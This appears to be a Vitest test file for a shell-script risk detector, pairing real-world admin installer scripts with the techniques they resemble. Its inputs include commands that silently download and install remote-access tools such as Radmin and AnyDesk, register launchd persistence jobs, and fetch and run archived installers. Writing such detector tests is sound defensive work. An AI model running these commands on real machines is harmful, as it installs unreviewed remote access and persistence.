/**
 * Found on real published admin scripts (held-out set 9: Intune app installs, Jamf Protect helpers, vendor
 * installer wrappers), each beside the technique it resembles, which must still be caught.
 */
import { describe, expect, it } from 'vitest';
import { decisionOf as decision, evaluateLine } from './family-test-support';
import type { Shell } from '../types';

function rules(text: string, shell: Shell): string[] {
  return evaluateLine(text, shell).reasons.map((r) => r.ruleId);
}

describe('remote-access tools named in a download URL', () => {
  it('a VBScript here-string with GetObject("WinNT://…") is no download, and strAdministratorsGroup names no tool', () => {
    const script = `Invoke-WebRequest -Uri "https://live.sysinternals.com/Bginfo64.exe" -OutFile "C:\\Program Files\\BGInfo\\Bginfo64.exe"
$CheckAdminScript = @"
Set objGroup = GetObject("WinNT://./Administrators,group")
Dim strAdministratorsGroup
"@
$CheckAdminScript | Out-File -FilePath "C:\\Program Files\\BGInfo\\CheckAdmin.vbs"
Start-Process "C:\\Program Files\\BGInfo\\Bginfo64.exe"`;
    expect(rules(script, 'powershell').filter((r) => r.startsWith('rmm.'))).toEqual([]);
  });

  it("a URL on the tool's domain or naming its installer is still one", () => {
    expect(
      rules(
        'Invoke-WebRequest https://www.radmin.com/download/Radmin_Server_3.5.2.1_EN.msi -OutFile r.msi; msiexec /i r.msi /qn',
        'powershell',
      ),
    ).toContain('rmm.download-install');
    expect(
      rules('$s = @"\nget it from https://files.example.net/tools/anydesk.exe now\n"@\nStart-Process $env:TEMP\\a.exe', 'powershell'),
    ).toContain('rmm.download-install');
  });
});

describe('launchd jobs macOS ships', () => {
  it('re-enabling auditd (its plist under /System/Library) restores a default', () => {
    const script =
      '/bin/launchctl enable system/com.apple.auditd\n/bin/launchctl bootstrap system /System/Library/LaunchDaemons/com.apple.auditd.plist';
    expect(decision(script, 'zsh')).toBe('allow');
  });

  it('a job from /Library, an unknown label, or Apple screen sharing is a registration to review', () => {
    expect(rules('launchctl bootstrap system /Library/LaunchDaemons/com.example.helper.plist', 'zsh')).toContain('persist.launchd');
    expect(rules('launchctl enable system/com.example.helper', 'zsh')).toContain('persist.launchd');
    expect(rules('launchctl load -w /System/Library/LaunchDaemons/com.apple.screensharing.plist', 'zsh')).toContain('persist.launchd');
  });
});

describe('an installer unpacked, found and run from its folder', () => {
  const fetch = `$UrlDownload = 'https://aka.ms/fslogix_download'
$FileDownload = "$Env:LOCALAPPDATA\\FSLogixAppsSetup.zip"
$FolderDownload = "$Env:LOCALAPPDATA\\FSLogixAppsSetup"
(New-Object System.Net.WebClient).DownloadFile($UrlDownload, $FileDownload)
Expand-Archive -Path $FileDownload -DestinationPath $FolderDownload -Force
Push-Location -Path (Get-ChildItem -Path $FolderDownload -File 'FSLogixAppsSetup.exe' -Recurse).DirectoryName
`;

  it('Push-Location to where Get-ChildItem found it, then cmd /c setup.exe, runs the download', () => {
    expect(rules(fetch + 'cmd /c FSLogixAppsSetup.exe /install /quiet /norestart', 'powershell')).toContain('dl.archive-then-run');
    expect(rules(fetch + 'Invoke-Expression -Command "CMD.EXE /C FSLogixAppsSetup.exe /install /quiet"', 'powershell')).toContain(
      'dl.archive-then-run',
    );
    expect(rules('cd C:\\temp\ncurl -o a.zip https://x.example.com/a.zip\ntar -xf a.zip\nsetup.exe /S', 'cmd')).toContain(
      'dl.archive-then-run',
    );
  });

  it('Windows programs and cmd built-ins run there are not the contents', () => {
    expect(decision(fetch + 'cmd /c dir\nipconfig /all', 'powershell')).toBe('allow');
    expect(
      decision('cd C:\\temp\ncurl -o a.zip https://x.example.com/a.zip\ntar -xf a.zip\ncmd.exe /c dir\nipconfig.exe /all', 'cmd'),
    ).toBe('allow');
  });
});
